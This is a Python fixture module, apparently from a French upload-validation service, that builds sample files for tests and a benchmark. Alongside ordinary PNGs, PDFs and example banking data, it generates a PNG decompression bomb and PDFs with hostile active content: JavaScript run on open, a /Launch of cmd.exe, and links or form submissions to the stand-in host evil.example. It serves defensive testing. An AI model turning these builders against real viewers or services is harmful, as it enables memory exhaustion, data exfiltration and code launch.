"""Sample files, good and bad, made on the fly (tests, end-to-end tests and the benchmark).

Nothing here is used by the service itself.
"""
from __future__ import annotations

import io
import struct
import zlib


def png(width: int = 64, height: int = 48, color=(30, 60, 140)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), color).save(buffer, "PNG")
    return buffer.getvalue()


def jpeg(width: int = 64, height: int = 48) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (width, height), (200, 120, 40)).save(buffer, "JPEG", quality=85)
    return buffer.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A valid PNG of width × height black pixels (1 bit per pixel) in a few tens of kilobytes:
    decoding it would take width × height pixels of memory. Built row by row, never in memory."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", b"".join(parts))
            + _chunk(b"IEND", b""))


def pdf(pages: int = 1, text: str = "Relevé d'identité bancaire", padding: int = 0) -> bytes:
    """A small, plain PDF (pypdf), `pages` pages with a line of text each; `padding` bytes of
    comment in the first page's content stream make it as big as wanted."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = PdfWriter()
    for number in range(pages):
        page = writer.add_blank_page(width=595, height=842)
        font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                                 NameObject("/BaseFont"): NameObject("/Helvetica")})
        page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): DictionaryObject(
            {NameObject("/F1"): writer._add_object(font)})})
        content = DecodedStreamObject()
        safe = text.encode("latin-1", "replace").decode("latin-1").replace("(", "[").replace(")", "]")
        filler = (b"%" + b"x" * (padding - 2) + b"\n") if padding > 1 and number == 0 else b""
        content.set_data(filler + f"BT /F1 18 Tf 72 760 Td ({safe} {number + 1}) Tj ET".encode("latin-1"))
        page[NameObject("/Contents")] = writer._add_object(content)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_of_size(size: int) -> bytes:
    """A valid PDF of exactly `size` bytes (padding in a comment before the end)."""
    padding = size - len(pdf())
    for _ in range(4):  # the /Length and xref offsets grow by a digit or two
        data = pdf(padding=padding)
        if len(data) == size:
            return data
        padding += size - len(data)
    raise ValueError(f"could not make a PDF of {size} bytes")


def encrypted_pdf(password: str = "secret") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user_password=password, owner_password=password + "-owner", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def javascript_pdf(where: str = "open_action") -> bytes:
    """A PDF running JavaScript when opened (/OpenAction), from the document's name tree
    (/Names /JavaScript), or on a page event (/AA)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert('bonjour');")})
    if where == "open_action":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    elif where == "names":
        names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("bonjour"),
                                                                    writer._add_object(action)])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    elif where == "page_aa":
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
    else:
        raise ValueError(where)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


ACTIVE_PDF_KINDS = ("xfa", "goto_remote", "uri", "submit_form", "import_data", "rich_media", "embedded_file",
                    "file_attachment", "launch", "named", "sound", "hide", "reset_form", "set_ocg_state",
                    "rendition", "goto_embedded", "thread", "movie_annotation", "screen_annotation")
PASSIVE_PDF_KINDS = ("open_destination", "goto_link", "plain_form")


def pdf_with(kind: str) -> bytes:
    """A one-page PDF with one feature of the active-content policy (validation.py): one of
    ACTIVE_PDF_KINDS (refused) or PASSIVE_PDF_KINDS (what scans and printed documents have)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (
        ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, NullObject, NumberObject,
        TextStringObject,
    )

    def name(value):
        return NameObject(value)

    def text(value):
        return TextStringObject(value)

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    root, page = writer._root_object, writer.pages[0]
    rect = ArrayObject([FloatObject(72), FloatObject(700), FloatObject(200), FloatObject(720)])

    def annotation(subtype, **entries):
        annot = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name(subtype),
                                  name("/Rect"): rect, **{name(f"/{k}"): v for k, v in entries.items()}})
        page[name("/Annots")] = ArrayObject([writer._add_object(annot)])

    def action(kind_name, **entries):
        return DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind_name),
                                 **{name(f"/{k}"): v for k, v in entries.items()}})

    def link(act):
        annotation("/Link", A=writer._add_object(act))

    destination = ArrayObject([page.indirect_reference, name("/Fit")])
    if kind == "xfa":
        packet = DecodedStreamObject()
        packet.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script>'
                        b"</template></xdp:xdp>")
        root[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject(),
                                                    name("/XFA"): writer._add_object(packet)})
    elif kind == "goto_remote":  # a file on a network share, opened with the document
        root[name("/OpenAction")] = writer._add_object(action(
            "/GoToR", F=text("\\\\serveur.example\\partage\\piege.pdf"), D=ArrayObject([NumberObject(0), name("/Fit")])))
    elif kind == "uri":
        link(action("/URI", URI=text("https://evil.example/collecte")))
    elif kind == "submit_form":
        annotation("/Widget", FT=name("/Btn"), T=text("envoyer"),
                   A=writer._add_object(action("/SubmitForm", F=text("https://evil.example/formulaire"))))
    elif kind == "import_data":
        link(action("/ImportData", F=text("donnees.fdf")))
    elif kind == "reset_form":
        link(action("/ResetForm"))
    elif kind == "rich_media":
        annotation("/RichMedia", RichMediaContent=DictionaryObject({name("/Assets"): DictionaryObject()}))
    elif kind == "embedded_file":
        spec = DictionaryObject({name("/Type"): name("/Filespec"), name("/F"): text("charge.exe")})
        root[name("/Names")] = DictionaryObject({name("/EmbeddedFiles"): DictionaryObject(
            {name("/Names"): ArrayObject([text("charge.exe"), writer._add_object(spec)])})})
    elif kind == "file_attachment":
        annotation("/FileAttachment", FS=DictionaryObject({name("/Type"): name("/Filespec"), name("/F"): text("a.exe")}))
    elif kind == "launch":
        link(action("/Launch", F=text("cmd.exe")))
    elif kind == "named":
        link(action("/Named", N=name("/Print")))
    elif kind == "sound":
        link(action("/Sound", Sound=NullObject()))
    elif kind == "hide":
        link(action("/Hide", T=text("champ")))
    elif kind == "set_ocg_state":
        link(action("/SetOCGState", State=ArrayObject([name("/OFF")])))
    elif kind == "rendition":
        link(action("/Rendition", OP=NumberObject(0)))
    elif kind == "goto_embedded":
        link(action("/GoToE", D=destination, T=DictionaryObject({name("/R"): name("/C"), name("/N"): text("x")})))
    elif kind == "thread":
        link(action("/Thread", D=NumberObject(0)))
    elif kind == "movie_annotation":
        annotation("/Movie", T=text("film"))
    elif kind == "screen_annotation":
        annotation("/Screen", T=text("ecran"))
    elif kind == "open_destination":  # what word processors write: open on page 1, whole page
        root[name("/OpenAction")] = destination
    elif kind == "goto_link":
        link(action("/GoTo", D=destination))
    elif kind == "plain_form":
        field = DictionaryObject({name("/Type"): name("/Annot"), name("/Subtype"): name("/Widget"),
                                  name("/FT"): name("/Tx"), name("/T"): text("nom"), name("/V"): text("Dupont"),
                                  name("/Rect"): rect})
        reference = writer._add_object(field)
        page[name("/Annots")] = ArrayObject([reference])
        root[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject([reference])})
    else:
        raise ValueError(kind)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def truncated(data: bytes, keep: float = 0.6) -> bytes:
    return data[: int(len(data) * keep)]


def exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200


def snapshot(demande_id: str = "dem-1", version: int = 1, state: str = "SUBMITTED", sens: str = "D", **extra) -> dict:
    """A request snapshot as the demandes service sends it (contracts.py)."""
    data = {
        "demande_id": demande_id, "number": "102611000000042", "version": version,
        "procedure_code": "SAISIE_IMMO_D",
        "procedure_label": "Déconsigner / récupérer des fonds dans le cadre d'une saisie immobilière (débiteur saisi)",
        "sens": sens, "state": state,
        "state_label": {"SUBMITTED": "Envoyé", "VALIDATED": "Demande validée", "DRAFT": "Demande enregistrée"}.get(state, state),
        "dates": {"created_at": "2026-11-02T09:15:00+00:00", "submitted_at": "2026-11-20T14:02:00+00:00",
                  **({"validated_at": "2026-11-23T08:30:00+00:00"} if state == "VALIDATED" else {})},
        "owner": {"person_id": "5b3e1c0a-7d2f-4e8a-9c61-2f4b8d9e0a17", "name": "Élodie Dupont",
                  "email": "elodie.dupont@acme.example.com", "company_name": "ACME SAS"},
        "fields": [
            {"label": "Forme juridique", "value": "SAS", "kind": "text"},
            {"label": "Titulaire du compte", "value": "ACME SAS", "kind": "text"},
            {"label": "IBAN", "value": "FR76 3000 6000 0112 3456 7890 189", "kind": "iban"},
            {"label": "BIC", "value": "AGRIFRPPXXX", "kind": "text"},
            {"label": "Libellé du virement", "value": "Saisie RG 24/01234 <Tribunal judiciaire de Lyon>", "kind": "text"},
        ],
        "documents": [
            {"label": "Relevé d'identité bancaire (RIB)", "file_name": "rib-acme.pdf", "review_status": "conforme"},
            {"label": "Autre document", "file_name": "jugement.pdf", "review_status": "non_conforme"},
            {"label": "Pièce d'identité", "file_name": "cni-recto.png", "review_status": "pending"},
        ],
        "amount": "TOTAL",
    }
    data.update(extra)
    return data
